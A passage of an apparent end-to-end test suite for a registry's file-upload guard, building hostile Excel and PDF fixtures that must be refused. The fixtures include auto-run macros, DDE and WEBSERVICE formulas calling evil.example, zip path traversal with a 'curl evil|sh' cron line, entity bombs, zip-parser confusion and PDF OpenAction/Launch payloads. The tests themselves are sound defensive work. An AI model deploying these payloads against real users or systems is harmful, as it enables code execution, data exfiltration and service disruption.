import { performance } from 'node:perf_hooks';
import { EMISSION_FACTORS } from '../../src/modules/emissions/excel/factors';
import { buildTemplate, type ActivityRow } from '../../src/modules/emissions/excel/template';
import { editPart, makeZip, readZip, rezip, SML_TYPE, twoDirectories, unicodePathField } from '../fixtures/zip';
import { binary, createTestApp, type TestApp } from '../support/app';
import { whileHealthPolled } from '../support/health-poller';
import { spawnRegistry, type RegistryProcess } from '../support/process';
import { activatedHolder, activatedVerifier, auth, secretariatToken, type Holder } from '../factories/identity';

const ELEC = EMISSION_FACTORS[0].label;
const NS = 'http://schemas.openxmlformats.org';
const REL = `${NS}/officeDocument/2006/relationships`;
const SHEET = 'xl/worksheets/sheet1.xml';
const WB_RELS = 'xl/_rels/workbook.xml.rels';
const TYPES = '[Content_Types].xml';
const CFB = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);

const addRel = (parts: Map<string, Buffer>, relsPart: string, rel: string) => {
  if (!parts.has(relsPart)) parts.set(relsPart, Buffer.from(`<?xml version="1.0"?><Relationships xmlns="${NS}/package/2006/relationships"></Relationships>`));
  editPart(parts, relsPart, '</Relationships>', `${rel}</Relationships>`);
};
const addType = (parts: Map<string, Buffer>, entry: string) => editPart(parts, TYPES, '</Types>', `${entry}</Types>`);
const addValidation = (parts: Map<string, Buffer>, sqref: string) =>
  editPart(parts, SHEET, /<dataValidations count="(\d+)">/, `<dataValidations count="99"><dataValidation type="whole" allowBlank="1" sqref="${sqref}"><formula1>0</formula1></dataValidation>`);
const setFormula = (parts: Map<string, Buffer>, cell: string, formula: string) =>
  editPart(parts, SHEET, new RegExp(`(<c r="${cell}"[^>]*>)<f>[^<]*</f>`), `$1<f>${formula}</f>`);
/** The form with another quantity in C8: the sheet a reader that is fooled would read instead. */
const otherQuantity = (form: Buffer) => rezip(form, (p) => editPart(p, SHEET, /(<c r="C8"[^>]*>)<v>1000<\/v>/, '$1<v>5000</v>'));
const sqrefBomb = (form: Buffer) =>
  rezip(form, (p) => editPart(p, SHEET, '</worksheet>', `<dataValidations count="1"><dataValidation type="whole" sqref="${Array.from({ length: 80 }, () => 'x!A1:Z20000').join(' ')}"><formula1>0</formula1></dataValidation></dataValidations></worksheet>`));

/**
 * Hostile workbooks, each the designated form (a valid, filled report) with one thing added: what
 * the guard must refuse, with the code and the part it names.
 */
type Hostile = { name: string; code: string; part?: string | RegExp; reason?: RegExp; build: (form: Buffer) => Buffer; maxMs?: number };
const HOSTILE: Hostile[] = [
  {
    name: 'a VBA project under a renamed part (xl/vba.dat, vbaProject relationship, content type disguised)',
    code: 'MACRO_ENABLED',
    part: WB_RELS,
    build: (form) =>
      rezip(form, (p) => {
        p.set('xl/vba.dat', Buffer.concat([CFB, Buffer.from('Attribute VB_Name = "Module1"\nSub Auto_Open()\nShell "calc"\nEnd Sub')]));
        addType(p, '<Default Extension="dat" ContentType="application/xml"/>');
        addRel(p, WB_RELS, '<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vba.dat"/>');
      }),
  },
  {
    name: 'a macro-enabled content type written with XML character references',
    code: 'MACRO_ENABLED',
    part: 'xl/workbook.xml',
    build: (form) => rezip(form, (p) => editPart(p, TYPES, `${SML_TYPE}.sheet.main+xml`, 'application/vnd.ms-excel.sheet.&#x6D;acro&#69;nabled.main+xml')),
  },
  {
    name: 'an Excel 4.0 macro sheet with Auto_Open',
    code: 'MACRO_ENABLED',
    part: 'xl/macrosheets/sheet1.xml',
    build: (form) =>
      rezip(form, (p) => {
        p.set('xl/macrosheets/sheet1.xml', Buffer.from(`<xm:macrosheet xmlns="${NS}/spreadsheetml/2006/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>`));
        addType(p, '<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>');
        addRel(p, WB_RELS, '<Relationship Id="rId98" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.xml"/>');
        editPart(p, 'xl/workbook.xml', '</sheets>', '<sheet name="M" sheetId="9" state="hidden" r:id="rId98"/></sheets><definedNames><definedName name="_xlnm.Auto_Open" hidden="1">M!$A$1</definedName></definedNames>');
      }),
  },
  {
    name: 'an Auto_Open defined name on its own',
    code: 'MACRO_ENABLED',
    part: 'xl/workbook.xml',
    build: (form) => rezip(form, (p) => editPart(p, 'xl/workbook.xml', '</sheets>', '</sheets><definedNames><definedName name="Auto_Open1">\'係数\'!$A$1</definedName></definedNames>')),
  },
  {
    name: 'an OLE object',
    code: 'FILE_ACTIVE_CONTENT',
    part: 'xl/embeddings/oleObject1.bin',
    build: (form) =>
      rezip(form, (p) => {
        p.set('xl/embeddings/oleObject1.bin', Buffer.concat([CFB, Buffer.alloc(512, 1)]));
        addType(p, '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>');
        addRel(p, 'xl/worksheets/_rels/sheet1.xml.rels', `<Relationship Id="rId1" Type="${REL}/oleObject" Target="../embeddings/oleObject1.bin"/>`);
      }),
  },
  {
    name: 'an OLE object declared in the sheet, its part typed as an image',
    code: 'FILE_ACTIVE_CONTENT',
    part: /xl\/(embeddings\/oleObject1\.png|worksheets\/_rels\/sheet1\.xml\.rels)/,
    build: (form) =>
      rezip(form, (p) => {
        p.set('xl/embeddings/oleObject1.png', Buffer.concat([CFB, Buffer.alloc(512, 1)]));
        addType(p, '<Default Extension="png" ContentType="image/png"/>');
        addRel(p, 'xl/worksheets/_rels/sheet1.xml.rels', `<Relationship Id="rId1" Type="${REL}/oleObject" Target="../embeddings/oleObject1.png"/>`);
      }),
  },
  {
    name: 'an ActiveX control',
    code: 'FILE_ACTIVE_CONTENT',
    part: 'xl/activeX/activeX1.xml',
    build: (form) =>
      rezip(form, (p) => {
        p.set('xl/activeX/activeX1.xml', Buffer.from('<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>'));
        addType(p, '<Override PartName="/xl/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>');
      }),
  },
  {
    name: 'controls in the sheet (ActiveX or form controls)',
    code: 'FILE_ACTIVE_CONTENT',
    part: SHEET,
    build: (form) => rezip(form, (p) => editPart(p, SHEET, '<pageMargins', '<controls><control shapeId="1025" r:id="rId5" name="CommandButton1"/></controls><pageMargins')),
  },
  {
    name: 'an external workbook link (http://)',
    code: 'FILE_ACTIVE_CONTENT',
    part: 'xl/externalLinks/externalLink1.xml',
    build: (form) =>
      rezip(form, (p) => {
        p.set('xl/externalLinks/externalLink1.xml', Buffer.from(`<externalLink xmlns="${NS}/spreadsheetml/2006/main"><externalBook r:id="rId1"/></externalLink>`));
        addType(p, `<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="${SML_TYPE}.externalLink+xml"/>`);
        addRel(p, 'xl/externalLinks/_rels/externalLink1.xml.rels', `<Relationship Id="rId1" Type="${REL}/externalLinkPath" Target="http://evil.example/book.xlsx" TargetMode="External"/>`);
        addRel(p, WB_RELS, `<Relationship Id="rId97" Type="${REL}/externalLink" Target="externalLinks/externalLink1.xml"/>`);
      }),
  },
  {
    name: 'an external relationship of an allowed type (a hyperlink to http://)',
    code: 'FILE_ACTIVE_CONTENT',
    part: 'xl/worksheets/_rels/sheet1.xml.rels',
    reason: /external relationship/,
    build: (form) => rezip(form, (p) => addRel(p, 'xl/worksheets/_rels/sheet1.xml.rels', `<Relationship Id="rId1" Type="${REL}/hyperlink" Target="http://evil.example/" TargetMode="&#69;xternal"/>`)),
  },
  {
    name: 'a network-path relationship target (//evil.example/x.png), plain and percent-encoded',
    code: 'FILE_ACTIVE_CONTENT',
    part: WB_RELS,
    reason: /external relationship/,
    build: (form) =>
      rezip(form, (p) => {
        addRel(p, WB_RELS, `<Relationship Id="rId98" Type="${REL}/image" Target="%2F%2Fevil.example/y.png"/>`);
        addRel(p, WB_RELS, `<Relationship Id="rId99" Type="${REL}/image" Target="//evil.example/x.png"/>`);
      }),
  },
  {
    name: 'a DDE formula in a computed column (D8)',
    code: 'FILE_ACTIVE_CONTENT',
    part: SHEET,
    build: (form) => rezip(form, (p) => setFormula(p, 'D8', "cmd|' /C calc'!A0")),
  },
  {
    name: 'a WEBSERVICE formula in a computed column (F8)',
    code: 'FILE_ACTIVE_CONTENT',
    part: SHEET,
    build: (form) => rezip(form, (p) => setFormula(p, 'F8', 'WEBSERVICE(&quot;http://evil.example/?&quot;&amp;C8)')),
  },
  {
    name: 'a formula outside the template (G8)',
    code: 'FILE_ACTIVE_CONTENT',
    part: SHEET,
    build: (form) => rezip(form, (p) => editPart(p, SHEET, '</row>', '<c r="G1"><f>1+1</f></c></row>')),
  },
  {
    name: 'a nested zip (inside an image part)',
    code: 'FILE_ACTIVE_CONTENT',
    part: 'xl/media/image1.png',
    reason: /nested/,
    build: (form) =>
      rezip(form, (p) => {
        p.set('xl/media/image1.png', makeZip([{ name: 'payload.exe', data: Buffer.from('MZ') }]));
        addType(p, '<Default Extension="png" ContentType="image/png"/>');
      }),
  },
  {
    name: 'an entry named ../../evil.xml',
    code: 'FILE_ACTIVE_CONTENT',
    part: '../../evil.xml',
    build: (form) => rezip(form, (p) => p.set('../../evil.xml', Buffer.from('<x/>'))),
  },
  {
    name: 'an entry named /etc/cron.d/x',
    code: 'FILE_ACTIVE_CONTENT',
    part: '/etc/cron.d/x',
    build: (form) => rezip(form, (p) => p.set('/etc/cron.d/x', Buffer.from('* * * * * root curl evil|sh'))),
  },
  {
    name: 'an entry named with a backslash',
    code: 'FILE_ACTIVE_CONTENT',
    part: 'xl\\..\\..\\evil.xml',
    build: (form) => rezip(form, (p) => p.set('xl\\..\\..\\evil.xml', Buffer.from('<x/>'))),
  },
  {
    name: 'two central directories (JSZip, unzip and Python read a second one, with another sheet)',
    code: 'FILE_ACTIVE_CONTENT',
    part: 'zip',
    reason: /central directory does not end/,
    build: (form) => twoDirectories(readZip(form), readZip(otherQuantity(form))),
  },
  {
    name: 'an image entry whose Unicode-path field names it the main sheet for JSZip',
    code: 'FILE_ACTIVE_CONTENT',
    part: 'xl/media/image1.png',
    reason: /Unicode path/,
    build: (form) => {
      const typed = rezip(form, (p) => addType(p, '<Default Extension="png" ContentType="image/png"/>'));
      const evilSheet = readZip(otherQuantity(form)).find((e) => e.name === SHEET)!.data;
      return makeZip([...readZip(typed), { name: 'xl/media/image1.png', data: evilSheet, extra: unicodePathField('xl/media/image1.png', SHEET) }]);
    },
  },
  {
    name: 'a DDE formula hidden in CDATA (F8)',
    code: 'FILE_ACTIVE_CONTENT',
    part: SHEET,
    reason: /CDATA/,
    build: (form) => rezip(form, (p) => setFormula(p, 'F8', "<![CDATA[cmd|' /C calc'!A0]]>")),
  },
  {
    name: 'a WEBSERVICE validation formula split by an XML comment',
    code: 'FILE_ACTIVE_CONTENT',
    part: SHEET,
    reason: /XML comment/,
    build: (form) => rezip(form, (p) => editPart(p, SHEET, /<dataValidations count="(\d+)">/, '<dataValidations count="99"><dataValidation type="custom" sqref="A1"><formula1>WEBSERVICE<!---->("http://evil.example/")</formula1></dataValidation>')),
  },
  {
    name: 'entity declarations (billion laughs) in xl/styles.xml',
    code: 'FILE_ACTIVE_CONTENT',
    part: 'xl/styles.xml',
    reason: /DOCTYPE/,
    build: (form) => rezip(form, (p) => editPart(p, 'xl/styles.xml', '<styleSheet', '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><styleSheet')),
  },
  {
    name: 'a cell formula under a prefix bound to the main namespace (<xm:f> at H90)',
    code: 'FILE_ACTIVE_CONTENT',
    part: SHEET,
    reason: /H90/,
    build: (form) =>
      rezip(form, (p) => {
        editPart(p, SHEET, /<worksheet /, `<worksheet xmlns:xm="${NS}/spreadsheetml/2006/main" `);
        editPart(p, SHEET, '</sheetData>', '<row r="90"><xm:c r="H90"><xm:f>SUM(1,2)</xm:f></xm:c></row></sheetData>');
      }),
  },
  {
    name: 'a table column formula (outside the form\'s own formula cells)',
    code: 'FILE_ACTIVE_CONTENT',
    part: 'xl/tables/table1.xml',
    reason: /formula outside the designated form/,
    build: (form) =>
      rezip(form, (p) => {
        p.set('xl/tables/table1.xml', Buffer.from(`<table xmlns="${NS}/spreadsheetml/2006/main" id="1" name="T" displayName="T" ref="H1:H3"><tableColumns count="1"><tableColumn id="1" name="c"><calculatedColumnFormula>SUM(1,2)</calculatedColumnFormula></tableColumn></tableColumns></table>`));
        addType(p, `<Override PartName="/xl/tables/table1.xml" ContentType="${SML_TYPE}.table+xml"/>`);
      }),
  },
  {
    name: '100,000 cell formats in xl/styles.xml (Excel allows 65,490)',
    code: 'FILE_TOO_COMPLEX',
    part: 'xl/styles.xml',
    reason: /cellXfs/,
    build: (form) =>
      rezip(form, (p) =>
        editPart(p, 'xl/styles.xml', /<cellXfs count="\d+">/, `<cellXfs count="100000">${Array.from({ length: 100_000 }, (_, i) => `<xf numFmtId="${i % 50}" fontId="0" fillId="0" borderId="0" applyNumberFormat="${i}"/>`).join('')}`),
      ),
  },
  {
    name: 'an entry whose CRC does not match',
    code: 'FILE_ACTIVE_CONTENT',
    part: 'xl/styles.xml',
    reason: /CRC/,
    build: (form) => rezip(form, () => undefined, { 'xl/styles.xml': { crc: 0x12345678 } }),
  },
];

/** Slow files: cheap to send, expensive to parse naively. Refused by the counted bounds, fast. */
const SLOW: Hostile[] = [
  {
    name: '1,000 data-validation ranges of A1:Z20000',
    code: 'FILE_TOO_COMPLEX',
    reason: /ruleCells/,
    build: (form) => rezip(form, (p) => addValidation(p, Array.from({ length: 1000 }, () => 'A1:Z20000').join(' '))),
  },
  {
    name: '456 data-validation ranges of A1:A9999 (past the old 4,096-character cut-off)',
    code: 'FILE_TOO_COMPLEX',
    reason: /ruleCells/,
    build: (form) => rezip(form, (p) => addValidation(p, Array.from({ length: 456 }, () => 'A1:A9999').join(' '))),
  },
  {
    name: "80 sheet-qualified validation ranges of x!A1:Z20000 (11 KB; held the file worker for its full 10 s limit)",
    code: 'FILE_TOO_COMPLEX',
    reason: /ruleCells/,
    maxMs: 1_000,
    build: sqrefBomb,
  },
  {
    name: '200,000 shared strings',
    code: 'FILE_TOO_COMPLEX',
    reason: /strings/,
    build: (form) =>
      rezip(form, (p) => {
        const strings = Array.from({ length: 200_000 }, (_, i) => `<si><t>s${i}</t></si>`).join('');
        editPart(p, 'xl/sharedStrings.xml', /<\/sst>/, `${strings}</sst>`);
      }),
  },
  {
    name: 'a 1,000,000-row sheet',
    code: 'FILE_TOO_COMPLEX',
    reason: /rows/,
    build: (form) =>
      rezip(form, (p) => {
        const rows = Array.from({ length: 1_000_000 }, (_, i) => `<row r="${i + 2}"/>`).join('');
        editPart(p, 'xl/worksheets/sheet3.xml', '</row></sheetData>', `</row>${rows}</sheetData>`);
      }),
  },
];

describe('uploads: hostile files are refused, nothing is stored, the registry keeps answering (e2e)', () => {
  let t: TestApp;
  let sec: string;
  let holder: Holder;
  let verifier: Awaited<ReturnType<typeof activatedVerifier>>;
  let holderNumber: string;
  let reports: Record<string, string>;
  let form: Buffer;
  let tenThousand: Buffer;
  const slowFiles = new Map<string, Buffer>();
  /** The compiled registry on the same database: its /health is timed by a poller of its own, not by this test process. */
  let registry: RegistryProcess;
  let registryUrl: string;
  const figures: string[] = [];

  beforeAll(async () => {
    t = await createTestApp();
    sec = await secretariatToken(t);
    holder = await activatedHolder(t, sec);
    verifier = await activatedVerifier(t, sec);
    await t.http().put(`/api/v1/target-holders/${holder.id}/verifier`).set(auth(sec)).send({ verifierId: verifier.id }).expect(200);
    holderNumber = (await t.http().get(`/api/v1/target-holders/${holder.id}`).set(auth(sec))).body.holderNumber;
    const phase = await t.http().post('/api/v1/phases').set(auth(sec)).send({ name: '第9期', adoptedFiscalYear: 2013, baseFiscalYear: 2013, targetFiscalYear: 2014, adjustmentFiscalYear: 2015 });
    const joined = await t.http().post(`/api/v1/phases/${phase.body.id}/participants`).set(auth(sec)).send({ targetHolderId: holder.id, reductionTarget: '10' });
    expect(joined.status).toBe(201);
    reports = Object.fromEntries(joined.body.reports.map((r: { kind: string; id: string }) => [r.kind, r.id]));
    form = await baseForm([{ kind: ELEC, quantity: 1000 }]);
    // built before the timed tests: client and server share this process, and building is not the server's time
    for (const h of SLOW) slowFiles.set(h.name, h.build(form));
    tenThousand = await baseForm(Array.from({ length: 10_000 }, (_, i) => ({ kind: EMISSION_FACTORS[i % EMISSION_FACTORS.length].label, quantity: (i % 97) + 1 })));
    registry = spawnRegistry({ DATABASE_URL: t.db.url, JWT_SECRET: t.config.jwtSecret, NOTIFY_DISPATCH: 'false' });
    registryUrl = await registry.ready;
    // the registry's file worker starts on its first job: warm it, so the figures below are the files' own
    const warm = new FormData();
    warm.append('file', new Blob([await buildTemplate({ holderNumber, fiscalYear: 2014, kind: 'target_year' }, [{ kind: ELEC, quantity: 10 }])]), 'warm.xlsx');
    expect((await fetch(`${registryUrl}/api/v1/reports/${reports.target_year}/files`, { method: 'POST', headers: auth(holder.b.token!), body: warm })).status).toBe(201);
  });
  afterAll(async () => {
    if (figures.length) console.log(`time to refusal and longest /health latency:\n  ${figures.join('\n  ')}`);
    if (registry?.proc.exitCode === null) {
      registry.proc.kill('SIGTERM');
      await registry.exited;
    }
    await t?.close();
  });

  const baseForm = (rows: ActivityRow[]) => buildTemplate({ holderNumber, facility: '施設', fiscalYear: 2013, kind: 'base_year' }, rows);
  const upload = (token: string, reportId: string, file: Buffer, name = 'report.xlsx', path = 'files') =>
    t.http().post(`/api/v1/reports/${reportId}/${path}`).set(auth(token)).attach('file', file, name);
  const stored = async (reportId: string) =>
    (await t.db.dataSource.query(`SELECT count(*)::int AS n FROM report_files WHERE report_id = $1`, [reportId]))[0].n as number;

  /**
   * Uploads to the registry process while a separate poller process asks its /health every 5 ms
   * (so neither this test process's event loop nor its garbage collector is in the figure): the
   * upload's answer, its time, and the slowest /health.
   */
  async function whilePolling(token: string, reportId: string, file: Buffer) {
    const form = new FormData();
    form.append('file', new Blob([file]), 'report.xlsx');
    const { result, slowest, polls, failures } = await whileHealthPolled(registryUrl, async () => {
      const started = performance.now();
      const res = await fetch(`${registryUrl}/api/v1/reports/${reportId}/files`, { method: 'POST', headers: auth(token), body: form });
      const body = (await res.json()) as { code?: string; rows?: number; details?: unknown };
      return { res: { status: res.status, body }, ms: performance.now() - started };
    });
    expect(failures).toBe(0);
    return { ...result, slowest, polls };
  }

  it('accepts the plain form (the fixtures below change one thing each)', async () => {
    const res = await upload(holder.b.token!, reports.target_year, await buildTemplate({ holderNumber, fiscalYear: 2014, kind: 'target_year' }, [{ kind: ELEC, quantity: 10 }]));
    expect(res.status).toBe(201);
  });

  it.each(HOSTILE.map((h) => [h.name, h] as const))('refuses %s as a calculation report; stores nothing', async (_name, h) => {
    const res = await upload(holder.b.token!, reports.base_year, h.build(form));
    expect([res.status, res.body.code]).toEqual([422, h.code]);
    expect(res.body.message).toMatch(/[ぁ-んァ-ヶ一-龠]/);
    if (h.part) expect(res.body.details.part).toMatch(typeof h.part === 'string' ? new RegExp(`^${h.part.replace(/[[\]().*+?\\/]/g, '\\$&')}$`) : h.part);
    if (h.reason) expect(JSON.stringify(res.body.details)).toMatch(h.reason);
    expect(await stored(reports.base_year)).toBe(0);
    expect((await t.http().get(`/api/v1/reports/${reports.base_year}`).set(auth(sec))).body).toMatchObject({ status: 'not_submitted', files: [] });
  });

  it.each(SLOW.map((h) => [h.name, h] as const))('refuses %s fast, with /health answering meanwhile; stores nothing', async (name, h) => {
    const file = slowFiles.get(name)!;
    const { res, ms, slowest, polls } = await whilePolling(holder.b.token!, reports.base_year, file);
    expect([res.status, res.body.code]).toEqual([422, h.code]);
    expect(JSON.stringify(res.body.details)).toMatch(h.reason!);
    expect(polls).toBeGreaterThan(0);
    expect(slowest).toBeLessThan(200);
    expect(ms).toBeLessThan(h.maxMs ?? 5_000);
    figures.push(`${name} (${(file.length / 1024).toFixed(0)} KiB): refused in ${ms.toFixed(0)} ms, /health at most ${slowest.toFixed(0)} ms over ${polls} polls`);
    expect(await stored(reports.base_year)).toBe(0);
  });

  it('accepts a valid 10,000-row report while /health keeps answering', async () => {
    const file = tenThousand;
    const { res, ms, slowest, polls } = await whilePolling(holder.b.token!, reports.base_year, file);
    expect(res.status).toBe(201);
    expect(res.body.rows).toBe(10_000);
    expect(slowest).toBeLessThan(200);
    figures.push(`valid 10,000-row report (${(file.length / 1024).toFixed(0)} KiB): accepted in ${ms.toFixed(0)} ms, /health at most ${slowest.toFixed(0)} ms over ${polls} polls`);
    expect(await stored(reports.base_year)).toBe(1);
  });

  it('applies the same checks to attachments, verification reports and review documents', async () => {
    const vba = HOSTILE[0].build(form);
    const external = HOSTILE.find((h) => h.name.startsWith('an external workbook link'))!.build(form);
    const ole = HOSTILE.find((h) => h.name === 'an OLE object')!.build(form);
    const att = await upload(holder.a.token!, reports.adjustment_year, vba, 'data.xlsx', 'attachments');
    expect([att.status, att.body.code, att.body.details.part]).toEqual([422, 'MACRO_ENABLED', WB_RELS]);
    const dde = await upload(holder.a.token!, reports.adjustment_year, rezip(form, (p) => editPart(p, SHEET, '</row>', '<c r="G1"><f>SUM(A1)+cmd|\'/c calc\'!A0</f></c></row>')), 'dde.xlsx', 'attachments');
    expect([dde.status, dde.body.code, dde.body.details.reason]).toEqual([422, 'FILE_ACTIVE_CONTENT', 'DDE formula']);
    const web = await upload(holder.a.token!, reports.adjustment_year, rezip(form, (p) => editPart(p, SHEET, '</row>', '<c r="G1"><f>_xlfn.WEBSERVICE("http://x")</f></c></row>')), 'w.xlsx', 'attachments');
    expect([web.status, web.body.code]).toEqual([422, 'FILE_ACTIVE_CONTENT']);
    const remote = await upload(holder.a.token!, reports.adjustment_year, rezip(form, (p) => addRel(p, WB_RELS, `<Relationship Id="rId99" Type="${REL}/image" Target="//evil.example/x.png"/>`)), 'r.xlsx', 'attachments');
    expect([remote.status, remote.body.code, remote.body.details.reason, remote.body.details.target]).toEqual([422, 'FILE_ACTIVE_CONTENT', 'external relationship', '//evil.example/x.png']);
    const scheme = await upload(holder.a.token!, reports.adjustment_year, rezip(form, (p) => addRel(p, WB_RELS, `<Relationship Id="rId99" Type="${REL}/image" Target="media/x.png?u=smb:x"/>`)), 's.xlsx', 'attachments');
    expect([scheme.status, scheme.body.code, scheme.body.details.reason]).toEqual([422, 'FILE_ACTIVE_CONTENT', 'relationship target is not a part']);
    expect(await stored(reports.adjustment_year)).toBe(0);
    // an attachment workbook may hold ordinary formulas of its own
    // the second probe's attachments: a macro workbook behind a second central directory, formulas in a table and a chart
    const cfbView = readZip(form).map((e) => (e.name === 'docProps/core.xml' ? { name: 'xl/vbaProject.bin', data: Buffer.concat([CFB, Buffer.from('Sub Workbook_Open()\nShell "calc"\nEnd Sub')]) } : e));
    const twoCd = await upload(holder.a.token!, reports.adjustment_year, twoDirectories(readZip(form), cfbView), 'data.xlsx', 'attachments');
    expect([twoCd.status, twoCd.body.code, twoCd.body.details.part]).toEqual([422, 'FILE_ACTIVE_CONTENT', 'zip']);
    const withPart = (name: string, type: string, xml: string) =>
      rezip(form, (p) => {
        p.set(name, Buffer.from(xml));
        addType(p, `<Override PartName="/${name}" ContentType="${type}"/>`);
      });
    const tableFormula = withPart('xl/tables/table1.xml', `${SML_TYPE}.table+xml`, `<table xmlns="${NS}/spreadsheetml/2006/main" id="1" name="T" displayName="T" ref="H1:H3"><tableColumns count="1"><tableColumn id="1" name="c"><calculatedColumnFormula>WEBSERVICE("http://evil.example/")</calculatedColumnFormula></tableColumn></tableColumns></table>`);
    const table = await upload(holder.a.token!, reports.adjustment_year, tableFormula, 'table.xlsx', 'attachments');
    expect([table.status, table.body.code, table.body.details.part, table.body.details.reason]).toEqual([422, 'FILE_ACTIVE_CONTENT', 'xl/tables/table1.xml', 'function WEBSERVICE not allowed']);
    const chartFormula = withPart('xl/charts/chart1.xml', 'application/vnd.openxmlformats-officedocument.drawingml.chart+xml', `<c:chartSpace xmlns:c="${NS}/drawingml/2006/chart"><c:chart><c:plotArea><c:barChart><c:ser><c:val><c:numRef><c:f>WEBSERVICE("http://evil.example/")</c:f></c:numRef></c:val></c:ser></c:barChart></c:plotArea></c:chart></c:chartSpace>`);
    const chart = await upload(holder.a.token!, reports.adjustment_year, chartFormula, 'chart.xlsx', 'attachments');
    expect([chart.status, chart.body.code, chart.body.details.part]).toEqual([422, 'FILE_ACTIVE_CONTENT', 'xl/charts/chart1.xml']);
    expect(await stored(reports.adjustment_year)).toBe(0);
    const sums = await upload(holder.a.token!, reports.adjustment_year, rezip(form, (p) => editPart(p, SHEET, '</row>', '<c r="G1"><f>SUM(C8:C9)*ROUND(1.5,0)</f></c></row>')), 'sums.xlsx', 'attachments');
    expect(sums.status).toBe(201);
    expect(await stored(reports.adjustment_year)).toBe(1);

    await t.http().post(`/api/v1/reports/${reports.base_year}/transitions`).set(auth(holder.b.token!)).send({ action: 'request_verification' }).expect(200);
    const before = await stored(reports.base_year);
    const ver = await upload(verifier.token, reports.base_year, external, 'verification.xlsx', 'verification-report');
    expect([ver.status, ver.body.code, ver.body.details.part]).toEqual([422, 'FILE_ACTIVE_CONTENT', 'xl/externalLinks/externalLink1.xml']);
    const review = await upload(verifier.token, reports.base_year, ole, 'review.xlsx', 'review-documents');
    expect([review.status, review.body.code, review.body.details.part]).toEqual([422, 'FILE_ACTIVE_CONTENT', 'xl/embeddings/oleObject1.bin']);
    expect(await stored(reports.base_year)).toBe(before);
  });

  it('refuses PDFs that act on opening (/OpenAction, /J#61vaScript, /Launch, embedded files, inside object streams too, however encoded); accepts a plain PDF', async () => {
    const pdf = (body: string) => Buffer.from(`%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${body} >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n`, 'latin1');
    const { deflateSync } = await import('node:zlib');
    const inStream = deflateSync(Buffer.from('3 0 << /S /JavaScript /JS (app.alert(1)) >>'));
    const script = Buffer.from('3 0 << /S /JavaScript /JS (app.alert(1)) >>');
    // PNG "Up" predictor rows of 8 bytes (filter byte 2, each byte minus the one above)
    const upPredicted = Buffer.concat(
      Array.from({ length: Math.ceil(script.length / 8) }, (_, r) => {
        const row = (k: number) => Buffer.concat([script.subarray(k * 8, k * 8 + 8), Buffer.alloc(8)]).subarray(0, 8);
        return Buffer.from([2, ...row(r).map((b, j) => (b - (r ? row(r - 1)[j] : 0)) & 0xff)]);
      }),
    );
    const streamPdf = (dict: string, data: Buffer) =>
      Buffer.concat([Buffer.from(`%PDF-1.7\n4 0 obj\n<< ${dict} /Length ${data.length} >>\nstream\r`, 'latin1'), data, Buffer.from('\nendstream\nendobj\n%%EOF\n', 'latin1')]);
    const objStm = Buffer.concat([Buffer.from('%PDF-1.7\n4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ' + inStream.length + ' >>\nstream\n', 'latin1'), inStream, Buffer.from('\nendstream\nendobj\n%%EOF\n', 'latin1')]);
    const cases: [string, Buffer, string][] = [
      ['open.pdf', pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'), '/OpenAction'],
      ['hex.pdf', pdf('/Names << /J#61vaScript 3 0 R >>'), '/JavaScript'],
      ['launch.pdf', pdf('/AA << /O << /S /Launch /F (cmd.exe) >> >>'), '/AA'],
      ['embedded.pdf', pdf('/Names << /EmbeddedFiles 5 0 R >>'), '/EmbeddedFiles'],
      ['objstm.pdf', objStm, '/JavaScript'],
      // the object stream's /Type #-escaped, its data PNG-predicted and deflated twice: decoded all the same
      ['escaped.pdf', streamPdf('/Type /Obj#53tm /N 1 /First 4 /Filter [/FlateDecode /Fl] /DecodeParms [null << /Predictor 12 /Columns 8 >>]', deflateSync(deflateSync(upPredicted))), '/JavaScript'],
    ];
    for (const [name, file, found] of cases) {
      const res = await upload(holder.a.token!, reports.adjustment_year, file, name, 'attachments');
      expect([name, res.status, res.body.code, res.body.details.name]).toEqual([name, 422, 'FILE_ACTIVE_CONTENT', found]);
    }
    expect(await stored(reports.adjustment_year)).toBe(1);
    const plain = await upload(holder.a.token!, reports.adjustment_year, pdf('/Lang (ja-JP)'), '敷地図.pdf', 'attachments');
    expect(plain.status).toBe(201);
    expect(await stored(reports.adjustment_year)).toBe(2);
  });

  it('sanitises every file name in Content-Disposition (CR LF, path separators, quotes) and keeps the stored name for display', async () => {
    // the multipart header carries the names percent-encoded (filename*, RFC 7578 §4.2), as a client may send them
    const boundary = 'x-boundary-1';
    const send = (fileName: string) =>
      t
        .http()
        .post(`/api/v1/reports/${reports.adjustment_year}/attachments`)
        .set(auth(holder.a.token!))
        .set('Content-Type', `multipart/form-data; boundary=${boundary}`)
        .send(
          Buffer.concat([
            Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename*=UTF-8''${encodeURIComponent(fileName)}\r\nContent-Type: application/pdf\r\n\r\n`),
            Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n'),
            Buffer.from(`\r\n--${boundary}--\r\n`),
          ]),
        );
    const disposition = async (id: string) => {
      const download = await t.http().get(`/api/v1/files/${id}`).set(auth(holder.b.token!)).buffer(true).parse(binary);
      expect(download.status).toBe(200);
      expect(download.headers['content-type']).toBe('application/pdf');
      return download.headers['content-disposition'] as string;
    };

    // the name of the issue: the upload parser keeps its last path segment, and nothing of it reaches a header raw
    const issue = await send('a\r\nContent-Type: text/html.pdf');
